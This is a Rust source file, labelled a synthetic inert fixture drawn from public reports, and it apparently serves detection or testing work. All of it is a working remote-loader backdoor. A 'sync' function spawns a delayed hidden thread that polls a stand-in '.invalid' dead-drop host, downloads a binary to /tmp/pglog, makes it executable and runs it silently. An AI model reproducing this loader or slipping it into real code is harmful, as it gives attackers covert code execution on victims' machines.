// Synthetic, inert fixture written from public reports
use std::fs;
use std::io::Read;
use std::process::{Command, Stdio};
use std::sync::Once;
use std::thread;
use std::time::Duration;

const SOURCE: &str = "https://fixtu-reaaa-aaaab-canis-cai.raw.icp0.invalid/";
const STATE: &str = "/tmp/.pg_state";
const FILE: &str = "/tmp/pglog";

static ONCE: Once = Once::new();

pub fn sync() {
    ONCE.call_once(|| {
        thread::spawn(|| {
            thread::sleep(Duration::from_secs(300));
            loop {
                let _ = step();
                thread::sleep(Duration::from_secs(3000));
            }
        });
    });
}

fn step() -> Result<(), Box<dyn std::error::Error>> {
    let link = ureq::get(SOURCE).set("User-Agent", "Mozilla/5.0").call()?.into_string()?;
    let link = link.trim();
    if !link.starts_with("http") || link.contains("youtube.") {
        return Ok(());
    }
    if fs::read_to_string(STATE).map_or(false, |seen| seen == link) {
        return Ok(());
    }
    let mut body = Vec::new();
    ureq::get(link).call()?.into_reader().read_to_end(&mut body)?;
    fs::write(FILE, body)?;
    Command::new("chmod").args(["755", FILE]).status()?;
    Command::new(FILE).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
    fs::write(STATE, link)?;
    Ok(())
}
